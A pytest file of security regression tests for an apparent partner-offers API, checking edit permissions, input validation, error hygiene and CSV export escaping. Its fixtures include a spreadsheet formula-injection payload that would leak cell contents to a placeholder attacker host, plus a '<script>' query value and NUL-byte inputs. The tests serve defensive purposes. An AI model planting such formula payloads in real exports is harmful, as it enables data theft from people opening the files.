"""The security review's API findings, each reproduced: partners' edits after review, hostile
input (NUL, huge integers, deep JSON, unknown statuses), internal notes, driver text in 409s,
timestamps with their offset, TRACE's Allow, CSV formulas and public claims of organisations."""

from __future__ import annotations

import csv
import io
import re

import pytest
import sqlalchemy as sa

from models import Offer, Organization, User
from models.enums import OfferStatus
from services import csv_cells, import_export, moderation, submissions
from tests import factories as f
from tests.web.test_api_catalog import offer_body

RFC3339 = re.compile(r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?(Z|[+-]\d\d:\d\d)$")


@pytest.fixture
def ally(session):
    return f.organization(session, name="Partner Fund", kind="foundation")


@pytest.fixture
def partner(session, ally):
    return f.token(session, "partner", organization_id=ally.id)[1]


@pytest.fixture
def staff(session):
    return f.token(session, "staff")[1]


def error_of(response) -> dict:
    body = response.get_json()
    assert set(body) == {"error"}, body
    return body["error"]


# 1. Partners change content only while an offer waits for review.


@pytest.mark.parametrize("status", ["published", "rejected", "closed", "withdrawn"])
def test_a_partner_cannot_edit_a_reviewed_offer(client, session, ally, partner, status):
    offer = f.offer(session, ally, status=status)
    response = client.patch(
        f"/api/v1/offers/{offer.id}",
        json={"title": "Unmoderated new title", "description": "Text nobody has reviewed yet."},
        headers=f.auth(partner),
    )
    assert response.status_code == 409, response.get_json()
    assert f"is {status}" in error_of(response)["message"]
    session.refresh(offer)
    assert offer.title != "Unmoderated new title" and offer.status == status


@pytest.mark.parametrize("status", ["rejected", "closed"])
def test_a_partner_cannot_resubmit_a_rejected_or_closed_offer(
    client, session, ally, partner, status
):
    offer = f.offer(session, ally, status=status)
    response = client.patch(
        f"/api/v1/offers/{offer.id}", json={"status": "submitted"}, headers=f.auth(partner)
    )
    assert response.status_code == 409
    session.refresh(offer)
    assert offer.status == status


def test_a_partner_may_withdraw_a_published_offer_and_edit_a_submitted_one(
    client, session, ally, partner
):
    published = f.offer(session, ally, status="published")
    response = client.patch(
        f"/api/v1/offers/{published.id}", json={"status": "withdrawn"}, headers=f.auth(partner)
    )
    assert response.status_code == 200 and response.get_json()["status"] == "withdrawn"
    submitted = f.offer(session, ally, status="submitted")
    response = client.patch(
        f"/api/v1/offers/{submitted.id}", json={"title": "A better title"}, headers=f.auth(partner)
    )
    assert response.status_code == 200 and response.get_json()["title"] == "A better title"


def test_a_partner_never_sets_the_source(client, session, ally, partner):
    submitted = f.offer(session, ally, status="submitted")
    for method, url, body in (
        ("patch", f"/api/v1/offers/{submitted.id}", {"source": "manual"}),
        ("post", "/api/v1/offers", offer_body(ally.id, source="manual")),
    ):
        response = getattr(client, method)(url, json=body, headers=f.auth(partner))
        assert response.status_code == 422, response.get_json()
        assert "source" in error_of(response)["fields"]
    session.refresh(submitted)
    assert submitted.source == "api"


def test_a_partner_deletes_only_offers_waiting_for_review(client, session, ally, partner):
    published = f.offer(session, ally, status="published")
    response = client.delete(f"/api/v1/offers/{published.id}", headers=f.auth(partner))
    assert response.status_code == 409 and "withdraw" in error_of(response)["message"]
    assert session.get(Offer, published.id) is not None


# 6. Hostile input is a clear 4xx in the error shape, on both databases.


def test_nul_characters_are_refused_everywhere(client, session, staff, ally):
    response = client.post(
        "/api/v1/organizations",
        json={"name": "Evil\u0000Org", "kind": "ngo", "side": "supply", "country": "CO"},
        headers=f.auth(staff),
    )
    assert response.status_code == 422 and "NUL" in error_of(response)["message"]
    response = client.get("/api/v1/offers?q=a%00b", headers=f.auth(staff))
    assert response.status_code == 422 and "q" in error_of(response)["fields"]
    assert client.get("/opportunities?q=a%00b").status_code == 400
    assert client.post("/offers/new", data={"title": "x\x00y"}).status_code == 400
    assert session.scalar(sa.select(sa.func.count()).select_from(Offer)) == 0
    assert session.scalar(sa.select(Organization).where(Organization.name.like("Evil%"))) is None


@pytest.mark.parametrize(
    "url",
    [
        "/api/v1/offers/99999999999999999999999",
        "/api/v1/projects/18446744073709551616",
        "/api/v1/organizations/9223372036854775808",
    ],
)
def test_ids_past_64_bits_are_404(client, staff, url):
    for method in ("get", "delete", "patch"):
        response = getattr(client, method)(url, json={}, headers=f.auth(staff))
        assert response.status_code == 404, (method, response.get_data(as_text=True))


@pytest.mark.parametrize(
    "query",
    [
        "page=99999999999999999999",
        "per_page=99999999999999999999",
        "organization_id=99999999999999999999",
        "organization_id=-1",
        "status=bogus",
        "sort=password",
        "line=<script>",
    ],
)
def test_bad_list_parameters_are_422(client, staff, query):
    response = client.get(f"/api/v1/offers?{query}", headers=f.auth(staff))
    assert response.status_code == 422, response.get_data(as_text=True)
    assert query.split("=")[0] in error_of(response)["fields"]


def test_bad_statuses_on_projects_jobs_and_matches_are_422(client, staff):
    for url in (
        "/api/v1/projects?status=done",
        "/api/v1/jobs?status=bogus",
        "/api/v1/matches?offer_id=1&status=bogus",
        "/api/v1/matches?offer_id=99999999999999999999",
    ):
        response = client.get(url, headers=f.auth(staff))
        assert response.status_code == 422, (url, response.get_data(as_text=True))


def test_big_integers_in_bodies_are_422(client, staff, ally):
    body = offer_body(2**64)
    response = client.post("/api/v1/offers", json=body, headers=f.auth(staff))
    assert response.status_code == 422 and "organization_id" in error_of(response)["fields"]


def test_deeply_nested_json_is_refused(client, staff):
    for depth in (50, 50_000):
        response = client.post(
            "/api/v1/offers",
            data="[" * depth,
            content_type="application/json",
            headers=f.auth(staff),
        )
        assert response.status_code in (400, 422), response.get_data(as_text=True)
        error_of(response)
    nested: dict = {}
    for _ in range(60):
        nested = {"a": nested}
    response = client.post(
        "/api/v1/organizations",
        json={"name": "Deep", "kind": "ngo", "side": "supply", "country": "CO", "x": nested},
        headers=f.auth(staff),
    )
    assert response.status_code == 422 and "nested" in error_of(response)["message"]


def test_a_superscript_organisation_id_on_the_public_form_is_a_form_error(client, session):
    from tests.web.test_public_form import send

    response = send(client, lang="en", organization_id="²", org_name="")
    assert response.status_code in (200, 400, 422)
    assert session.scalar(sa.select(sa.func.count()).select_from(Offer)) == 0


# 7. Partners do not read staff's internal notes.


def test_partners_do_not_see_decision_reasons(client, session, ally, partner, staff):
    offer = f.offer(session, ally)
    match = f.match(
        session, f.project(session), offer, status="rejected", decision_reason="Internal: weak"
    )
    as_partner = client.get(f"/api/v1/matches?offer_id={offer.id}", headers=f.auth(partner))
    item = as_partner.get_json()["items"][0]
    assert item["id"] == match.id and "decision_reason" not in item
    assert "Internal" not in as_partner.get_data(as_text=True)
    as_staff = client.get(f"/api/v1/matches?offer_id={offer.id}", headers=f.auth(staff))
    assert as_staff.get_json()["items"][0]["decision_reason"] == "Internal: weak"


# 8. A conflict says so in the API's words, never the driver's.


def test_a_duplicate_ref_is_a_409_without_the_database_text(client, session, staff, partner, ally):
    other = f.organization(session, name="Someone Else")
    f.offer(session, other, ref="SECRET-REF-42")
    response = client.post(
        "/api/v1/offers", json=offer_body(ally.id, ref="SECRET-REF-42"), headers=f.auth(partner)
    )
    assert response.status_code == 409
    text = response.get_data(as_text=True)
    assert "SECRET-REF-42" not in text and "Key (" not in text and "UNIQUE" not in text
    assert error_of(response)["fields"] == {"ref": ["Already in use."]}


# Timestamps carry their offset (RFC 3339), TRACE gets an Allow header.


def test_every_timestamp_carries_its_utc_offset(client, session, staff, ally):
    offer = f.offer(session, ally)
    body = client.get(f"/api/v1/offers/{offer.id}", headers=f.auth(staff)).get_json()
    for key in ("created_at", "updated_at", "published_at"):
        assert RFC3339.match(body[key]), (key, body[key])
    org = client.get(f"/api/v1/organizations/{ally.id}", headers=f.auth(staff)).get_json()
    assert RFC3339.match(org["created_at"])


def test_an_undeclared_method_is_405_with_allow(client, staff):
    response = client.open("/api/v1/offers", method="TRACE", headers=f.auth(staff))
    assert response.status_code == 405
    assert set(response.headers["Allow"].split(", ")) >= {"GET", "POST"}
    assert error_of(response)["status"] == 405


# 5. CSV cells a spreadsheet would evaluate are neutralised, and import back exactly.

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "'=already quoted",
    "'plain apostrophe",
]


@pytest.mark.parametrize("value", FORMULAS)
def test_csv_cells_are_escaped_and_restored(value):
    escaped = csv_cells.escape(value)
    assert not str(escaped).startswith(("=", "+", "-", "@", "\t", "\r"))
    assert csv_cells.unescape(escaped) == value
    assert csv_cells.unescape("plain") == "plain" and csv_cells.escape(-5) == -5


def test_exported_titles_are_not_formulas_and_import_back(session, ally):
    titles = [t for t in FORMULAS if not t.startswith("'")] + ["'=already quoted"]
    for i, title in enumerate(titles):
        f.offer(session, ally, title=title, ref=f"F-{i}")
    columns = ["ref", "title", "description", "language", "modalities", *import_export.ORG_KEYS]
    rows = import_export.export_rows(session, Offer, columns)
    out = io.StringIO()
    import_export.write_rows(out, rows, "csv", columns)
    cells = [row["title"] for row in csv.DictReader(io.StringIO(out.getvalue()))]
    assert all(not c.startswith(("=", "+", "-", "@")) for c in cells)
    parsed = [row for _, row in import_export.parse_rows(out.getvalue(), "csv")]
    assert [row["title"] for row in parsed] == titles


def test_the_dashboard_csv_is_escaped(app):
    out = io.StringIO()
    csv_cells.Writer(out).writerow(["=1+1", 3, "ok"])
    assert out.getvalue().strip() == "'=1+1,3,ok"


# A public submission never joins an existing organisation unconfirmed.


def test_a_public_offer_claiming_an_organisation_stays_hidden_from_its_partners(
    client, session, ally, partner, staff
):
    claimed = submissions.submit_offer(
        session,
        {
            "title": "An offer in someone else's name",
            "description": "Sent through the public form by a stranger.",
            "modalities": ["grant"],
            "language": "en",
            "contact_email": "stranger@example.net",
        },
        organization_id=ally.id,
    ).offer
    assert claimed.organization_confirmed is False
    listed = client.get("/api/v1/offers", headers=f.auth(partner)).get_json()
    assert claimed.id not in [item["id"] for item in listed["items"]]
    assert client.get(f"/api/v1/offers/{claimed.id}", headers=f.auth(partner)).status_code == 404
    assert (
        client.get(f"/api/v1/matches?offer_id={claimed.id}", headers=f.auth(partner)).status_code
        == 404
    )
    staff_user = session.scalar(sa.select(User).where(User.role == "staff"))
    moderation.publish(session, claimed, staff_user.id)
    assert claimed.organization_confirmed is True and claimed.status == OfferStatus.PUBLISHED
    assert client.get(f"/api/v1/offers/{claimed.id}", headers=f.auth(partner)).status_code == 200


def test_a_new_organisation_from_the_form_is_its_own(session):
    offer = submissions.submit_offer(
        session,
        {
            "title": "A new foundation's first offer",
            "description": "Sent through the public form with a new organisation.",
            "modalities": ["grant"],
            "language": "en",
            "contact_email": "founder@example.net",
        },
        new_organization={"name": "Brand New Foundation", "kind": "foundation", "country": "ES"},
    ).offer
    assert offer.organization_confirmed is True
